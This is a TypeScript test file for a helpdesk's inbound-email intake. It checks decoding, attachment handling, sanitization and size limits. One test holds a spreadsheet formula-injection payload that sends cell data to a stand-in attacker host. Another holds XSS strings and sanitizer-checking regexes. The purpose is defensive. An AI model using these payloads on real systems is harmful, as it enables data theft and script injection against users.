// Cases 07, 10, 11, 12, 14, 16 (email), 17, 24, 26, 29 and 33 delivered through every door:
// what ends up stored (ticket, requester, entry, attachments) matches each expected.md.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { asc, count, eq } from "drizzle-orm";
import type { Db } from "@/db/client";
import { createTestDb } from "@/db/testing";
import { attachments, inboundMessages, threadEntries, tickets, users } from "@/db/schema";
import { readAttachmentContent } from "@/lib/attachments";
import { updateSettings } from "@/lib/config/settings";
import { caseInput, fixture, oversizeMessage } from "@/lib/email/test-support";
import { seedBasics } from "@/test/factories";
import { type Door, DOORS, deliver, INBOUND_SECRET, resetIntake, startWebhookServer } from "@/test/inbound-doors";
import { setApiEnv } from "@/test/intake-env";

let db: Db;
let key: string;
let server: Awaited<ReturnType<typeof startWebhookServer>>;

beforeAll(async () => {
  setApiEnv({ INBOUND_EMAIL_SECRET: INBOUND_SECRET });
  db = (await createTestDb()).db;
  key = (await seedBasics(db)).seed.apiKey!;
  server = await startWebhookServer();
});
afterAll(() => server.close());

async function stored(tid: number) {
  const [ticket] = await db.select().from(tickets).where(eq(tickets.id, tid));
  const [user] = await db.select().from(users).where(eq(users.id, ticket.userId));
  const entries = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, tid)).orderBy(asc(threadEntries.id));
  const files = await db.select().from(attachments).where(eq(attachments.ticketId, tid)).orderBy(asc(attachments.id));
  return { ticket, user, entries, messages: entries.filter((e) => e.type === "message"), files };
}
const fileRows = (files: Awaited<ReturnType<typeof stored>>["files"]) => files.map((f) => [f.name, f.size, f.blobSha256]);
const ticketCount = async () => (await db.select({ n: count() }).from(tickets))[0].n;
const noGarbage = (s: string) => expect(s).not.toMatch(/\uFFFD|\x1b|=\?/);

describe.each([...DOORS, "pipe-server"] as Door[])("through %s", (door) => {
  const send = async (raw: Buffer) => {
    const r = await deliver(db, door, raw, { key, serverUrl: server.url });
    expect(r.status).toBeLessThan(300);
    return r;
  };
  beforeEach(() => resetIntake(db));

  it("07: ISO-2022-JP subjects split over encoded-words", async () => {
    const one = await stored((await send(caseInput("07-iso2022jp-subject/1-standard.eml"))).tid!);
    expect(one.ticket.subject).toBe("【至急】請求書の再発行のお願い（2025年3月分）と支払期日の確認について");
    expect([one.user.name, one.user.email]).toEqual(["山田 花子", "hanako.yamada@example.jp"]);
    expect(one.messages[0].bodyText).toBe("サポートご担当者様\n\nお世話になっております。\n3月分の請求書を再発行していただけますでしょうか。\nよろしくお願いいたします。\n\n山田");
    const two = await stored((await send(caseInput("07-iso2022jp-subject/2-nec-special-chars.eml"))).tid!);
    expect(two.ticket.subject).toBe("㈱サンプル商事 ①見積書送付の件");
    expect(two.messages[0].bodyText.trim()).toBe("①見積書を送付いたします。");
    for (const s of [one, two]) [s.ticket.subject, s.messages[0].bodyText, s.user.name].forEach(noGarbage);
    expect(await ticketCount()).toBe(2);
  });

  it("10: Latin-1 quoted-printable, and windows-1252 labelled Latin-1", async () => {
    const one = await stored((await send(caseInput("10-latin1-qp-body/1-alternative-latin1.eml"))).tid!);
    expect(one.ticket.subject).toBe("Umlaute im Text äöü");
    expect(one.messages[0].bodyText.trim()).toBe("Hallo Support,\n\nfunktioniert das? äöü ÄÖÜ ß\n\nGruß\nKlaus");
    expect(one.messages[0].bodyHtml).toContain("funktioniert das? äöü ÄÖÜ ß");
    const two = await stored((await send(caseInput("10-latin1-qp-body/2-cp1252-labelled-latin1.eml"))).tid!);
    expect(two.messages[0].bodyText.trim()).toBe("Preis: 49,90 € “inkl. MwSt.” – bitte prüfen");
    expect(two.messages[0].bodyText).not.toMatch(/[\u0080-\u009f]/);
  });

  it("11: RFC 2231 / 2047 attachment names", async () => {
    const s = await stored((await send(caseInput("11-attachment-filenames-2231/input.eml"))).tid!);
    expect(s.entries).toHaveLength(1);
    expect(fileRows(s.files)).toEqual([
      ["Überweisung März.pdf", 40, "6c7d9a58a170ffc15968e8ee95505c63d31afcf94e485920d92cdbee6d93cc93"],
      ["Änderungsantrag Straße 7.docx", 46, "bb54ba9495b84dea96b145ba02990ae3946524251ec95450cd7754b94b8461e2"],
      ["Rechnung Nr. 12 – Büro.pdf", 40, "b8d832052d111322576cf0605fa879165ec8048c56ee91ff923db063c81965f3"],
      ["Grüße.txt", 21, "03c11802a123a33707c3fbaea8f428f67074809acf91a0e082b396927714906f"],
      ["Capture d’écran 2025-03-04.png", 69, "1db7d0d116a2861ae3ec18d9aa050f56a515c689b89ba5f8bdba68745296632f"],
    ]);
    expect(s.files[4].isInline).toBe(false);
  });

  it("12: cid images without disposition are inline and rewritten to our URLs", async () => {
    const s = await stored((await send(caseInput("12-inline-cid-no-disposition/input.eml"))).tid!);
    expect(fileRows(s.files)).toEqual([
      [expect.stringMatching(/^image001\.png/), 69, "71f97b4ac4efe6f10c831ed6b2d0d69d9596c3abba08c79303ecc7c197fdd411"],
      ["logo.png", 69, "2aaab69504af36e855c85487d0ae2abac04c9e808c896b9d92d3c42cdcc3c6a2"],
      ["report.csv", 38, "fe808b736c4444c2f1e84f7cda2f68db4fb074807b34e40ea657c2aef7817152"],
    ]);
    expect(s.files.map((f) => f.isInline)).toEqual([true, true, false]);
    expect(s.files.map((f) => f.contentType)).toEqual(["image/png", "image/png", "text/csv"]);
    expect((await readAttachmentContent(db, s.files[0]))?.length).toBe(69);
    const html = s.messages[0].bodyHtml;
    expect(html).not.toContain("cid:");
    expect(html).toContain(`src="/api/staff/attachments/${s.files[0].id}"`);
    expect(html).toContain(`src="/api/staff/attachments/${s.files[1].id}"`);
    expect(s.messages[0].bodyText).toContain("The error dialog looks like this:");
  });

  it("14 part 1: zero-byte attachment kept", async () => {
    const s = await stored((await send(caseInput("14-zero-byte-and-oversize/1-zero-byte.eml"))).tid!);
    expect(fileRows(s.files)).toEqual([
      ["empty.log", 0, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
      ["notes.txt", 14, "8d76e95b17e0b6b77cd031e3057ea8cbeb9330f4189b96bb3dd175d6d6b60aab"],
    ]);
    const empty = await readAttachmentContent(db, s.files[0]);
    expect(empty).toEqual(Buffer.alloc(0));
  });

  it("16: formula payloads by email are stored literally", async () => {
    const s = await stored((await send(caseInput("16-csv-formula-injection/input-email.eml"))).tid!);
    expect(s.ticket.subject).toBe('=IMPORTXML(CONCAT("https://attacker.example/?d=",A1),"//a")');
    expect(s.user.name).toBe("=1+2");
  });

  it("17: hostile HTML is sanitized; subject and name stay literal text", async () => {
    const s = await stored((await send(caseInput("17-html-xss-body/input.eml"))).tid!);
    const html = s.messages[0].bodyHtml;
    expect(html).not.toMatch(/<(script|iframe|form|input|button|svg|math|style)\b/i);
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/(href|src)\s*=\s*["']?\s*(javascript|&#)/i);
    expect(html).not.toContain("expression(");
    expect(html).not.toContain("attacker.example");
    expect(html).not.toMatch(/\ssrc=["']https:\/\/tracker\.example/);
    expect(html).toContain('<a href="https://status.example.com/incident/42"');
    expect(html).toMatch(/<b>team<\/b>/);
    expect(s.messages[0].hasRemoteImages).toBe(true);
    expect(s.ticket.subject).toBe("<img src=x onerror=alert(8)> Login broken");
    expect(s.user.name).toBe("Eve <svg onload=alert(7)>");
  });

  it("24: raw 8-bit Latin-1 headers", async () => {
    const s = await stored((await send(fixture("hunnysoft/m0001.eml"))).tid!);
    expect(s.ticket.subject).toBe("Die Hasen und die Frösche (Microsoft Outlook 00)");
    expect([s.user.name, s.user.email]).toEqual(["Doug Sauder", "doug@example.com"]);
    expect(s.messages[0].messageId).toBe("NDBBIAKOPKHFGPLCODIGIEKBCHAA.doug@example.com");
    for (const w of ["Die Hasen und die Frösche", "mißliche", "ärger", "für allemal", "unglücklicher"]) expect(s.messages[0].bodyText).toContain(w);
    expect(s.files).toEqual([]);
  });

  it("26: Outlook related cid images are inline, none listed as regular attachments", async () => {
    const s = await stored((await send(fixture("hunnysoft/m0016.eml"))).tid!);
    expect(s.ticket.subject).toBe("Test message from Microsoft Outlook 00");
    expect(s.messages[0].bodyText.startsWith("The Hare and the Tortoise")).toBe(true);
    expect(s.files.map((f) => [f.name, f.contentId, f.size, f.blobSha256, f.isInline])).toEqual([
      ["blueball.png", "823504223@17052000-0f8d", 1325, "68aa843030f8c6ad625450054732fe0f3a680496d98f957d578192fa4469cec2", true],
      ["redball.png", "823504223@17052000-0f94", 1453, "63aa82493459d1a5ac267e20109d380ba995788f7fa13ed43021ebb37ead6fc5", true],
    ]);
    const html = s.messages[0].bodyHtml;
    expect(html).not.toContain("cid:");
    expect(html.indexOf(`/api/staff/attachments/${s.files[0].id}`)).toBeLessThan(html.indexOf(`/api/staff/attachments/${s.files[1].id}`));
  });

  it("29: MIME torture test: one ticket, nine parts kept, nested text readable", async () => {
    const started = performance.now();
    const s = await stored((await send(fixture("postal-mime/mimetorture.eml"))).tid!);
    expect(performance.now() - started).toBeLessThan(3000);
    expect(await ticketCount()).toBe(1);
    expect(s.ticket.subject).toBe("Ryan Finnie's MIME Torture Test v1.0");
    expect(s.messages[0].bodyText.startsWith("Welcome to Ryan Finnie's MIME torture test.")).toBe(true);
    expect(s.files.map((f) => [f.name, f.size])).toEqual([
      ["foo.gz", 42], ["blah.gz", 288], ["blah1.gz", 42], ["attachment-4.gz", 42], ["htmlfile.html", 112],
      ["smiley-3.png", 819], ["dot.gif", 68], ["signature.asc", 189], ["attachment-9.gif", 83],
    ]);
    for (const t of ["plain jane message", "the original message", "JUST contains an attachment"]) expect(s.messages[0].bodyText).toContain(t);
  });

  it.each([
    ["gmail.eml", "Hello"],
    // outlook.eml's parts disagree; we render its HTML part, so the new text comes from that part.
    ["outlook.eml", "Allo! Follow up MIME!"],
    ["iphone.eml", null],
    ["thunderbird.eml", "Hello"],
    ["apple_mail.eml", "Hello"],
    ["hotmail.eml", "Hello"],
  ])("33: %s stores the full body and records where the quote is", async (file, newText) => {
    const raw = fixture(`talon/${file}`);
    const s = await stored((await send(raw)).tid!);
    const entry = s.messages[0];
    const meta = entry.headers as { newText: string; quote: { textStart: number | null } };
    expect(meta.newText).toBe(newText ?? fixture("talon/iphone_reply_text").toString("utf8").trim());
    expect(entry.quoteStartText).not.toBeNull();
    expect(entry.bodyText.length).toBeGreaterThan(meta.newText.length);
    expect(s.ticket.subject).toMatch(/^(Re: |RE: )?Test$/);
  });
});

describe.each(["webhook", "pipe"] as Door[])("14 part 2 (oversize) through %s", (door) => {
  beforeEach(() => resetIntake(db));
  it("accepts a 30 MiB attachment's message, leaves the file out with a note; keeps a 3 MiB one", async () => {
    const r = await deliver(db, door, oversizeMessage(30), { key });
    expect(r.status).toBe(200);
    const s = await stored(r.tid!);
    expect(s.messages[0].bodyText.trim()).toBe("Crash dump attached.");
    expect(s.files).toEqual([]);
    const note = s.entries.find((e) => e.type === "note")!;
    expect(note.bodyText).toContain('"big.bin" (31,457,280 bytes)');
    expect(note.bodyText).toContain("25 MiB");
    const ok = await deliver(db, door, Buffer.from(oversizeMessage(3).toString("latin1").replace("oversize-0001", "control-0001"), "latin1"), { key });
    const c = await stored(ok.tid!);
    expect(c.files.map((f) => [f.name, f.size])).toEqual([["big.bin", 3_145_728]]);
  });

  it("refuses a message over the request cap (413 / exit 77) leaving nothing behind", async () => {
    await updateSettings(db, { maxRequestBytes: 1024 * 1024 });
    const r = await deliver(db, door, oversizeMessage(3), { key });
    await updateSettings(db, { maxRequestBytes: 50 * 1024 * 1024 });
    if (door === "pipe") expect(r.exitCode).toBe(77);
    else expect(r.status).toBe(413);
    expect(await ticketCount()).toBe(0);
    expect((await db.select({ n: count() }).from(inboundMessages))[0].n).toBe(0);
  });
});
